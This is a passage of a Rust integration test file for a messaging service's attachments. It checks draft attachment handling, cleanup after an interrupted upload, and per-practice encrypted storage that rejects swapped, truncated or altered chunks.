            json!({"body": "Here is my reply.", "attachment_ids": [mine["id"]]}),
        )
        .await;
    assert!(status.is_success(), "{body}");
    let resp = download(&app, &c.provider, mine["id"].as_str().unwrap()).await;
    assert_eq!(resp.status(), StatusCode::OK);
    assert_eq!(resp.headers()["content-type"], "text/plain; charset=utf-8");

    // Quick notes and exports name the attachments.
    let (status, note) = app.quick_note(&c.provider, thread_id, json!({})).await;
    assert_eq!(status, StatusCode::CREATED, "{note}");
    assert!(note.to_string().contains("a.pdf, b.png"), "{note}");
}

async fn drafts_hold_attachments_until_sent(app: TestApp, _store: Store) {
    let c = Cast::new(&app).await;
    let a = upload_one(&app, &c.provider, "a.pdf", pdf("draft a")).await;
    let b = upload_one(&app, &c.provider, "b.pdf", pdf("draft b")).await;
    let (status, draft) = app
        .post(
            "/api/v1/drafts",
            &c.provider,
            json!({"to": [user(&c.client)], "subject": "Draft", "body": "With two files.", "attachment_ids": [a["id"], b["id"]]}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{draft}");
    let draft_id = draft["id"].as_str().unwrap();
    // A file a draft holds cannot go into another message meanwhile.
    let (status, body) = app
        .post(
            "/api/v1/threads",
            &c.provider,
            json!({"to": [user(&c.client)], "subject": "x", "body": "Taking the draft's file.", "attachment_ids": [a["id"]]}),
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert_eq!(body["code"], "attachment_not_found");
    let refused = app
        .delete(
            &format!("/api/v1/attachments/{}", a["id"].as_str().unwrap()),
            &c.provider,
        )
        .await;
    assert_problem(&refused, StatusCode::CONFLICT, "attachment_in_draft");

    // Saving without b lets b go (pending again); sending delivers a.
    let (status, _) = app
        .put(
            &format!("/api/v1/drafts/{draft_id}"),
            &c.provider,
            json!({"to": [user(&c.client)], "subject": "Draft", "body": "With one file.", "attachment_ids": [a["id"]]}),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let (status, sent) = app
        .post(
            &format!("/api/v1/drafts/{draft_id}/send"),
            &c.provider,
            json!({}),
        )
        .await;
    assert!(status.is_success(), "{sent}");
    let thread_id = sent["id"]
        .as_str()
        .or(sent["thread_id"].as_str())
        .unwrap()
        .to_string();
    let (_, view) = app.thread(&c.client, &thread_id).await;
    let files = view["messages"][0]["attachments"].as_array().unwrap();
    assert_eq!(files.len(), 1);
    assert_eq!(files[0]["id"], a["id"]);
    let (status, _) = app
        .delete(
            &format!("/api/v1/attachments/{}", b["id"].as_str().unwrap()),
            &c.provider,
        )
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);

    // Deleting a draft deletes the uploads it holds.
    let d = upload_one(&app, &c.provider, "d.pdf", pdf("draft d")).await;
    let (_, draft) = app
        .post(
            "/api/v1/drafts",
            &c.provider,
            json!({"to": [], "subject": "", "body": "", "attachment_ids": [d["id"]]}),
        )
        .await;
    let (status, _) = app
        .delete(
            &format!("/api/v1/drafts/{}", draft["id"].as_str().unwrap()),
            &c.provider,
        )
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    assert_eq!(
        download(&app, &c.provider, d["id"].as_str().unwrap())
            .await
            .status(),
        StatusCode::NOT_FOUND
    );
    let address = app
        .blob_address(&c.practice, d["sha256"].as_str().unwrap())
        .await;
    assert!(!app.state.blobs.exists(&address).await.unwrap());
}

async fn an_interrupted_upload_leaves_nothing(app: TestApp, _store: Store) {
    let c = Cast::new(&app).await;
    let boundary = "confide-test-boundary";
    let (first, _tail) = multipart_parts(boundary, "cut.txt", &vec![b'i'; 3 * 1024 * 1024]);
    let head = format!(
        "POST /api/v1/attachments HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {}\r\n\
         Content-Type: multipart/form-data; boundary={boundary}\r\nContent-Length: {}\r\n\r\n",
        c.provider.token,
        first.len() + 1000
    );
    // Half the body, then the connection goes away.
    tokio::task::block_in_place(|| raw_request(&app, &head, &[&first[..first.len() / 2]], true));
    for _ in 0..100 {
        let tmp = app.db.data_dir().join("tmp");
        if std::fs::read_dir(&tmp).unwrap().next().is_none() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_nothing_stored(&app).await;
}

/// Replaces the bytes at `address` with `damaged`; the download must be refused.
async fn refused(app: &TestApp, who: &Session, id: &str, address: &str, damaged: Vec<u8>) {
    app.state
        .blobs
        .overwrite_raw(address, damaged)
        .await
        .unwrap();
    let resp = download(app, who, id).await;
    assert_eq!(resp.status(), StatusCode::INTERNAL_SERVER_ERROR);
    let body: Value = resp.json().await.unwrap();
    assert_eq!(body["code"], "attachment_corrupted");
}

/// The bytes kept at `address`, as the store holds them.
async fn raw_object(app: &TestApp, address: &str) -> Vec<u8> {
    use tokio::io::AsyncReadExt;
    let mut file = app.state.blobs.open(address).await.unwrap();
    let mut bytes = Vec::new();
    file.read_to_end(&mut bytes).await.unwrap();
    bytes
}

/// Every object in the store, as bytes: the attachment directory or the moto bucket.
async fn every_stored_object(app: &TestApp) -> Vec<Vec<u8>> {
    let mut objects = Vec::new();
    let mut conn = app.state.store.read().await.unwrap();
    let addresses: Vec<String> = sqlx::query_scalar("SELECT sha256 FROM blobs")
        .fetch_all(&mut *conn)
        .await
        .unwrap();
    drop(conn);
    for address in addresses {
        objects.push(raw_object(app, &address).await);
    }
    let stored = app.db.data_dir().join("attachments");
    if stored.exists() {
        for path in walk(&stored) {
            objects.push(std::fs::read(path).unwrap());
        }
    }
    objects
}

async fn stored_bytes_are_sealed_per_practice_and_checked_chunk_by_chunk(
    app: TestApp,
    _store: Store,
) {
    const CHUNK: usize = 64 * 1024;
    let oak = Cast::new(&app).await;
    let elm = Cast::in_practice(&app, "elm").await;
    // Three full chunks and a part, each line holding the marker.
    let mut bytes = Vec::new();
    while bytes.len() < 3 * CHUNK + 1000 {
        bytes.extend_from_slice(format!("line {} Quillwort9Content\n", bytes.len()).as_bytes());
    }
    let mine = upload_one(&app, &oak.provider, "notes.txt", bytes.clone()).await;
    let theirs = upload_one(&app, &elm.provider, "notes.txt", bytes.clone()).await;
    // The same content has the same SHA-256 for its readers, but each practice keeps its
    // own copy under its own address: nobody learns that the other holds it.
    assert_eq!(mine["sha256"], theirs["sha256"]);
    let sha = mine["sha256"].as_str().unwrap();
    let (a, b) = (
        app.blob_address(&oak.practice, sha).await,
        app.blob_address(&elm.practice, sha).await,
    );
    assert_ne!(a, b);
    assert_ne!(a, sha);
    assert_eq!(count(&app, "SELECT COUNT(*) FROM blobs").await, 2);
    for object in every_stored_object(&app).await {
        assert!(!object.windows(17).any(|w| w == b"Quillwort9Content"));
    }
    let id = mine["id"].as_str().unwrap();
    let got = download(&app, &oak.provider, id).await;
    assert_eq!(got.status(), StatusCode::OK);
    assert_eq!(got.bytes().await.unwrap().to_vec(), bytes);

    let sealed = raw_object(&app, &a).await;
    let header = sealed.len() - bytes.len() - 4 * 16;
    let chunk = |i: usize| header + i * (CHUNK + 16)..header + (i + 1) * (CHUNK + 16);
    // Two chunks swapped.
    let mut swapped = sealed.clone();
    swapped[chunk(0)].copy_from_slice(&sealed[chunk(1)]);
    swapped[chunk(1)].copy_from_slice(&sealed[chunk(0)]);
    refused(&app, &oak.provider, id, &a, swapped).await;
    // The last chunk cut off.
    refused(
        &app,
        &oak.provider,
        id,
        &a,
        sealed[..chunk(3).start].to_vec(),
    )
    .await;
    // One flipped byte.
    let mut flipped = sealed.clone();
    flipped[chunk(2).start + 5] ^= 1;
    refused(&app, &oak.provider, id, &a, flipped).await;
    // The other practice's sealed copy of the very same content.
    refused(&app, &oak.provider, id, &a, raw_object(&app, &b).await).await;
    // The plain bytes themselves, as if someone replaced the sealed file.
    refused(&app, &oak.provider, id, &a, bytes.clone()).await;
    // Put back as it was, it is served again.
    app.state.blobs.overwrite_raw(&a, sealed).await.unwrap();
    assert_eq!(
        download(&app, &oak.provider, id).await.status(),
        StatusCode::OK
    );
}
